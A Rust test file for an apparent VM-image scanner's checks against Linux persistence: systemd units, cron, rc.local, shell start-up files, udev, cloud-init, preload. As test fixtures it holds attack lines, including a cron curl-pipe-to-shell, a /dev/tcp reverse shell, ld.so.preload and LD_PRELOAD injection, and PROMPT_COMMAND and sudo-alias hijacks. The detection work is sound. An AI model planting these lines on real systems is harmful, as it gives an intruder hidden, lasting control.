//! What starts by itself is explained, or told at its place.

use crate::declaration::Declaration;
use crate::evidence::Evidence;
use crate::evidence::linux::testing::{Build, elf, guest};
use crate::policy::checks::linux::testing::check;
use crate::policy::{CheckResult, Policy, Status, run};

/// A Debian with a packaged systemd, its target, and a packaged program.
fn base() -> Build {
    Build::debian().owned(
        "base",
        &[
            ("/usr/lib/systemd/systemd", 0o755, b"systemd"),
            (
                "/usr/lib/systemd/system/multi-user.target",
                0o644,
                b"[Unit]\n",
            ),
            ("/bin/sh", 0o755, b"shell"),
            ("/usr/bin/perl", 0o755, b"perl"),
            ("/usr/bin/touch", 0o755, b"touch"),
            ("/usr/bin/uptime", 0o755, b"uptime"),
            ("/usr/bin/flock", 0o755, b"flock"),
            ("/usr/bin/su", 0o755, b"su"),
            ("/usr/bin/runuser", 0o755, b"runuser"),
            ("/usr/bin/echo", 0o755, b"echo"),
            ("/usr/bin/curl", 0o755, b"curl"),
            ("/usr/bin/setpriv", 0o755, b"setpriv"),
        ],
    )
}

fn told(result: &CheckResult) -> Vec<String> {
    let items = result.evidence.iter().filter(|i| i.status != Status::Pass);
    items.map(|i| i.at.to_string()).collect()
}

/// The places at which `id` is not met.
fn places(id: &str, build: Build) -> (Status, Vec<String>) {
    let result = check(id, build);
    assert!(result.gaps.is_empty(), "{:?}", result.gaps);
    (result.status, told(&result))
}

/// A unit that nothing explains is a doubt, whichever of its settings runs something and whatever starts it:
/// systemd.service(5), systemd.socket(5).
#[test]
fn units_of_nobody_are_told() {
    for line in [
        "ExecStart=/srv/x",
        "ExecStop=/srv/x",
        "ExecStopPost=-/srv/x",
        "ExecReload=/srv/x",
        "ExecCondition=/srv/x",
        "ExecStart=/usr/bin/perl -e 1",
        "ExecStart=/usr/bin/setpriv --nnp /srv/x",
        "ExecStart=/\\x73rv/x",
        "ExecStart=/srv/%p",
        "Environment=LD_PRELOAD=/srv/x.so",
        "EnvironmentFile=/srv/x",
        "RootDirectory=/srv",
        "BindPaths=/srv/x:/etc",
    ] {
        let unit = format!("[Service]\n{line}\n");
        let build = base()
            .file("/etc/systemd/system/x.service", 0o644, unit)
            .file("/srv/x", 0o755, elf(200));
        let (status, places) = places("LNX-PERSIST-003", build);
        assert_eq!(status, Status::Unknown, "{line}");
        assert_eq!(places, ["p1:/etc/systemd/system/x.service:2"], "{line}");
    }
    let socket = base()
        .file(
            "/etc/systemd/system/x.socket",
            0o644,
            "[Socket]\nListenStream=1\nExecStartPre=/srv/x\n",
        )
        .file("/srv/x", 0o755, elf(200));
    assert_eq!(
        places("LNX-PERSIST-003", socket).1,
        ["p1:/etc/systemd/system/x.socket:3"]
    );
    // A packaged unit whose program no package brought.
    let planted = Build::debian()
        .owned(
            "base",
            &[
                ("/usr/lib/systemd/systemd", 0o755, b"systemd"),
                (
                    "/usr/lib/systemd/system/multi-user.target",
                    0o644,
                    b"[Unit]\n",
                ),
                (
                    "/usr/lib/systemd/system/y.service",
                    0o644,
                    b"[Service]\nExecStart=/usr/local/sbin/y\n",
                ),
            ],
        )
        .link(
            "/etc/systemd/system/default.target",
            "/usr/lib/systemd/system/multi-user.target",
        )
        .link(
            "/etc/systemd/system/multi-user.target.wants/y.service",
            "/usr/lib/systemd/system/y.service",
        )
        .file("/usr/local/sbin/y", 0o755, elf(200));
    assert_eq!(
        places("LNX-PERSIST-003", planted).1,
        ["p1:/usr/local/sbin/y"]
    );
}

/// Settings that only say how a program runs, and commands that only print, are nobody's doubt.
#[test]
fn what_starts_nothing_passes() {
    let unit = "[Unit]\nDescription=x\nAfter=network.target\n[Service]\nType=simple\nLimitNOFILE=65536\nUser=www\nProtectSystem=full\nEnvironment=LANG=C \"TZ=UTC\"\nEnvironmentFile=-/etc/default/x\nExecStart=/usr/local/sa/agent/x --y\n[Install]\nWantedBy=multi-user.target\n";
    let cron = "SHELL=/bin/sh\nPATH=/usr/sbin:/usr/bin\nMAILTO=\"\"\n* * * * * root flock -xn /tmp/x.lock -c /usr/local/sa/agent/x > /dev/null 2>&1 &\n";
    let local = "#!/bin/sh -e\ntouch /var/lock/subsys/local\nif [ -x /usr/local/sa/agent/x ]; then /usr/local/sa/agent/x; fi\nexit 0\n";
    let build = || {
        base()
            .file("/usr/local/sa/agent/x", 0o755, elf(200))
            .file("/etc/systemd/system/x.service", 0o644, unit)
            .file("/etc/systemd/system/ssh.service.d/x.conf", 0o644, "[Service]\nRestart=always\n")
            .file("/etc/cron.d/x", 0o644, cron)
            .file("/etc/cron.d/other", 0o644, "* * * * * root su -s /bin/sh www -c '/usr/local/sa/agent/x -d' >/dev/null\n")
            .file("/etc/cloud/cloud.cfg.d/90.cfg", 0o644, "#cloud-config\ndatasource_list: [ConfigDrive]\nssh_pwauth: true\nruncmd:\n - [echo, done]\n")
            .file("/etc/cron.d/gone", 0o644, "* * * * * root /usr/local/gone/x -y > /dev/null\n")
            .file("/etc/rc.local", 0o755, local)
            .file("/etc/profile.d/x.sh", 0o644, "export HISTSIZE=100\nalias ll='ls -l'\numask 022\nuptime\n")
            .file("/etc/udev/rules.d/70-persistent-net.rules", 0o644, "SUBSYSTEM==\"net\", ATTR{address}==\"00:11:22:33:44:55\", NAME=\"eth0\"\n")
            .file("/etc/apt/apt.conf.d/99x", 0o644, "APT::Install-Recommends \"false\";\n")
            .file("/etc/dpkg/dpkg.cfg.d/x", 0o644, "path-exclude=/usr/share/locale/*\n")
            .file("/etc/tmpfiles.d/x.conf", 0o644, "d /run/x 0755 root root -\nw /sys/kernel/mm/transparent_hugepage/enabled - - - - never\n")
            .file("/etc/ld.so.conf", 0o644, "include /etc/ld.so.conf.d/*.conf\n")
            .file("/etc/default/x", 0o644, "OPTS=\"-a -b\"\n")
    };
    for id in [
        "LNX-PERSIST-001",
        "LNX-PERSIST-002",
        "LNX-PERSIST-003",
        "LNX-PERSIST-004",
    ] {
        let result = check(id, build());
        assert_eq!(result.status, Status::Pass, "{id}: {:?}", result.evidence);
    }
}

/// What administrators of honest systems write into their own start-up files, and homes that useradd(8) made.
#[test]
fn start_up_files_of_administrators_pass() {
    let skeleton = "case $- in *i*) ;; *) return;; esac\n[ -x /usr/bin/lesspipe ] && eval \"$(SHELL=/bin/sh lesspipe)\"\nalias alert='notify-send x; y'\n";
    let root = "export LS_OPTIONS='--color=auto'\neval \"$(dircolors)\"\nalias ls='ls $LS_OPTIONS'\nalias ll='ls -l'\nexport HISTTIMEFORMAT='%F %T '\nexport TMOUT=600\n";
    let java = "export JAVA_HOME=/usr/lib/jvm/x\nexport PATH=$PATH:$JAVA_HOME/bin\n";
    let accounts = "root:x:0:0::/root:/bin/bash\nops:x:1000:1000::/home/ops:/bin/bash\n";
    let build = || {
        base()
            .owned("bash", &[("/etc/skel/.bashrc", 0o644, skeleton.as_bytes())])
            .file("/etc/passwd", 0o644, accounts)
            .file("/home/ops/.bashrc", 0o644, skeleton)
            .file("/root/.bashrc", 0o644, root)
            .file(
                "/root/.bash_profile",
                0o644,
                "if [ -f ~/.bashrc ]; then . ~/.bashrc; fi\n",
            )
            .file("/etc/profile.d/java.sh", 0o644, java)
            .file("/etc/sysconfig/anaconda", 0o644, "[General]\nx=1\n")
    };
    for id in ["LNX-PERSIST-003", "LNX-PERSIST-004"] {
        let result = check(id, build());
        assert_eq!(result.status, Status::Pass, "{id}: {:?}", result.evidence);
    }
    for line in [
        "export PATH=/srv:$PATH\n",
        "PS1='$(/srv/x)'\n",
        "eval \"$(/srv/x)\"\n",
    ] {
        let build = base().file("/etc/profile.d/x.sh", 0o644, line);
        assert_eq!(
            check("LNX-PERSIST-004", build).status,
            Status::Unknown,
            "{line}"
        );
    }
}

/// One thing of each place that takes effect by its manual page.
#[test]
fn each_place_is_looked_at() {
    for (id, path, text) in [
        (
            "LNX-PERSIST-001",
            "/usr/lib/python3/dist-packages/x.pth",
            "import os\n",
        ),
        (
            "LNX-PERSIST-001",
            "/usr/local/lib/python3.11/dist-packages/sitecustomize.py",
            "x\n",
        ),
        ("LNX-PERSIST-001", "/etc/ld.so.conf.d/x.conf", "/srv/lib\n"),
        (
            "LNX-PERSIST-002",
            "/etc/cron.d/x",
            "* * * * * root /srv/x\n",
        ),
        ("LNX-PERSIST-002", "/etc/cron.d/x", "PATH=/srv\n"),
        (
            "LNX-PERSIST-002",
            "/etc/cron.d/x",
            "* * * * * root /usr/bin/perl -e 1\n",
        ),
        (
            "LNX-PERSIST-002",
            "/var/spool/cron/crontabs/root",
            "@reboot find /srv -exec /srv/x ;\n",
        ),
        ("LNX-PERSIST-002", "/etc/cron.daily/x", "#!/usr/bin/perl\n"),
        (
            "LNX-PERSIST-002",
            "/etc/logrotate.d/x",
            "/var/log/x {\npostrotate\n/srv/x\nendscript\n}\n",
        ),
        ("LNX-PERSIST-003", "/etc/init.d/x", "#!/bin/sh\n/srv/x\n"),
        (
            "LNX-PERSIST-003",
            "/etc/rc.local",
            "#!/bin/sh\na=/srv/x; $a\n",
        ),
        (
            "LNX-PERSIST-003",
            "/etc/rc.local",
            "#!/bin/sh\necho $(/srv/x)\n",
        ),
        (
            "LNX-PERSIST-003",
            "/etc/rc.local",
            "#!/bin/sh\nrun-parts /srv\n",
        ),
        (
            "LNX-PERSIST-003",
            "/etc/rc.local",
            "#!/bin/sh\nhash -p /srv/x ls; ls\n",
        ),
        (
            "LNX-PERSIST-003",
            "/etc/rc.local",
            "#!/bin/sh\nfor PATH in /srv; do ls; done\n",
        ),
        (
            "LNX-PERSIST-003",
            "/etc/rc.local",
            "#!/bin/sh\nread PATH < /srv/p; ls\n",
        ),
        (
            "LNX-PERSIST-003",
            "/etc/rc.local",
            "#!/bin/sh\nsort -o/etc/cron.d/y /srv/x\n",
        ),
        (
            "LNX-PERSIST-003",
            "/etc/rc.local",
            "#!/bin/sh\nuniq /srv/x /etc/cron.d/y\n",
        ),
        (
            "LNX-PERSIST-003",
            "/etc/rc.local",
            "#!/bin/sh\nenable -f /srv/x ls\n",
        ),
        (
            "LNX-PERSIST-003",
            "/etc/rc.local",
            "#!/bin/sh\n/srv/missing > /etc/cron.d/y\n",
        ),
        (
            "LNX-PERSIST-003",
            "/etc/rc.local",
            "#!/bin/sh\necho x > /etc/cron.d/y\n",
        ),
        (
            "LNX-PERSIST-003",
            "/usr/share/dbus-1/system-services/x.service",
            "[D-BUS Service]\nName=x\nExec=/srv/x\n",
        ),
        (
            "LNX-PERSIST-003",
            "/usr/lib/systemd/system-generators/x",
            "#!/bin/sh\n/srv/x\n",
        ),
        (
            "LNX-PERSIST-003",
            "/etc/systemd/user/x.service",
            "[Service]\nExecStart=/srv/x\n",
        ),
        (
            "LNX-PERSIST-003",
            "/root/.config/systemd/user/x.service",
            "[Service]\nExecStart=/srv/x\n",
        ),
        (
            "LNX-PERSIST-003",
            "/etc/binfmt.d/x.conf",
            ":x:M::MZ::/srv/x:\n",
        ),
        (
            "LNX-PERSIST-003",
            "/etc/tmpfiles.d/x.conf",
            "L+ /etc/cron.d/y - - - - /srv/x\n",
        ),
        (
            "LNX-PERSIST-003",
            "/etc/default/x",
            "LD_PRELOAD=/srv/x.so\n",
        ),
        (
            "LNX-PERSIST-004",
            "/etc/udev/rules.d/x.rules",
            "ACTION==\"add\", RUN+=\"/srv/x\"\n",
        ),
        (
            "LNX-PERSIST-004",
            "/etc/udev/rules.d/x.rules",
            "ENV{SYSTEMD_WANTS}=\"x.service\"\n",
        ),
        ("LNX-PERSIST-004", "/etc/profile.d/x.sh", "/srv/x\n"),
        (
            "LNX-PERSIST-003",
            "/etc/rc.local",
            "#!/bin/sh\nflock /tmp/l /srv/x -c true\n",
        ),
        (
            "LNX-PERSIST-003",
            "/etc/rc.local",
            "#!/bin/sh\nsu root /srv/x\n",
        ),
        (
            "LNX-PERSIST-003",
            "/etc/rc.local",
            "#!/bin/sh\nsu -s /srv/x root -c true\n",
        ),
        (
            "LNX-PERSIST-003",
            "/etc/rc.local",
            "#!/bin/sh\nrunuser -u root -- /srv/x -c true\n",
        ),
        (
            "LNX-PERSIST-003",
            "/etc/cloud/cloud.cfg.d/99.cfg",
            "#cloud-config\nruncmd: [[/srv/x]]\n",
        ),
        (
            "LNX-PERSIST-003",
            "/etc/cloud/cloud.cfg.d/99.cfg",
            "#include http://203.0.113.1/x\n",
        ),
        (
            "LNX-PERSIST-003",
            "/etc/cloud/cloud.cfg.d/99.cfg",
            "#cloud-config\nrandom_seed: {command: [/srv/x]}\n",
        ),
        (
            "LNX-PERSIST-004",
            "/etc/udev/rules.d/x.rules",
            "ENV{ID_FS_UUID_ENC}=\"x\"\n",
        ),
        ("LNX-PERSIST-004", "/root/.bashrc", "alias sudo=/srv/x\n"),
        ("LNX-PERSIST-004", "/root/.bashrc", "ls() { /srv/x; }\n"),
        (
            "LNX-PERSIST-004",
            "/root/.bashrc",
            "function ls { /srv/x; }\n",
        ),
        (
            "LNX-PERSIST-004",
            "/root/.bashrc",
            ": ${PROMPT_COMMAND:=/srv/x}\n",
        ),
        (
            "LNX-PERSIST-004",
            "/root/.bashrc",
            "printf -v PROMPT_COMMAND /srv/x\n",
        ),
        (
            "LNX-PERSIST-004",
            "/root/.bashrc",
            "PROMPT_COMMAND=/srv/x\n",
        ),
        (
            "LNX-PERSIST-004",
            "/etc/update-motd.d/99-x",
            "#!/bin/sh\n/srv/x\n",
        ),
        (
            "LNX-PERSIST-004",
            "/etc/NetworkManager/dispatcher.d/x",
            "#!/bin/sh\n/srv/x\n",
        ),
        (
            "LNX-PERSIST-004",
            "/etc/network/interfaces",
            "iface eth0 inet dhcp\n up /srv/x\n",
        ),
        (
            "LNX-PERSIST-004",
            "/etc/apt/apt.conf.d/x",
            "DPkg::Post-Invoke {\"/srv/x\";};\n",
        ),
        (
            "LNX-PERSIST-004",
            "/etc/dpkg/dpkg.cfg.d/x",
            "post-invoke=/srv/x\n",
        ),
        (
            "LNX-PERSIST-004",
            "/etc/xdg/autostart/x.desktop",
            "[Desktop Entry]\nExec=/srv/x\n",
        ),
        ("LNX-PERSIST-004", "/usr/local/bin/uptime", "#!/bin/sh\n"),
    ] {
        let build = base()
            .file(path, 0o755, text)
            .file("/srv/x", 0o755, elf(200))
            .file("/srv/lib/libc.so.6", 0o644, "x");
        let result = check(id, build);
        assert_eq!(result.status, Status::Unknown, "{path}: {text}");
        let place = format!("p1:{path}");
        assert!(
            told(&result).iter().all(|at| at.starts_with(&place)),
            "{path}: {:?}",
            told(&result)
        );
    }
}

/// Forms that no honest system needs.
#[test]
fn forms_of_attack_fail() {
    for (id, path, text) in [
        (
            "LNX-PERSIST-002",
            "/etc/cron.d/x",
            "* * * * * root curl http://a | sh\n",
        ),
        (
            "LNX-PERSIST-002",
            "/etc/cron.d/x",
            "* * * * * root bash -i >& /dev/tcp/203.0.113.1/1\n",
        ),
        (
            "LNX-PERSIST-002",
            "/etc/cron.d/x",
            "* * * * * root /dev/shm/x\n",
        ),
        (
            "LNX-PERSIST-003",
            "/etc/systemd/system/x.service",
            "[Service]\nExecStart=/usr/lib/.x\n",
        ),
        ("LNX-PERSIST-001", "/etc/ld.so.preload", "/srv/x\n"),
    ] {
        let build = base()
            .file(path, 0o644, text)
            .file("/srv/x", 0o755, elf(200))
            .file("/usr/lib/.x", 0o755, elf(200));
        assert_eq!(check(id, build).status, Status::Fail, "{path}: {text}");
    }
}

/// The declaration of a vendor explains its unit and program by digest, and nothing without.
#[test]
fn a_declaration_explains_by_digest() {
    use sha2::Digest as _;
    let unit = "[Service]\nExecStart=/opt/shop/shop --serve\n";
    let hex = |data: &[u8]| crate::bytes::hex(&sha2::Sha256::digest(data));
    let of = |unit_digest: &str, program_digest: &str| {
        let text = format!(
            "schema: imgscan-declaration/1\nproduct: Shop\nfiles:\n  - {{path: /etc/systemd/system/shop.service, sha256: {unit_digest}}}\n  - {{path: /opt/shop/shop, sha256: {program_digest}}}\n"
        );
        let declaration = Declaration::parse("d.yaml", &text).unwrap();
        let guest = guest(
            base()
                .file("/etc/systemd/system/shop.service", 0o644, unit)
                .file("/opt/shop/shop", 0o755, elf(300)),
        );
        let mut policy = Policy::built_in("tencent-marketplace").unwrap();
        policy.checks.retain(|c| c.id == "LNX-PERSIST-003");
        let evidence = Evidence::new(&guest).declared(Some(&declaration));
        run(&policy, &[evidence], &[], &|_| {}).remove(0).status
    };
    let (right, program) = (hex(unit.as_bytes()), hex(&elf(300)));
    let other = hex(b"other");
    assert_eq!(of(&right, &program), Status::Pass);
    assert_eq!(of(&other, &program), Status::Unknown);
    assert_eq!(of(&right, &other), Status::Unknown);
}
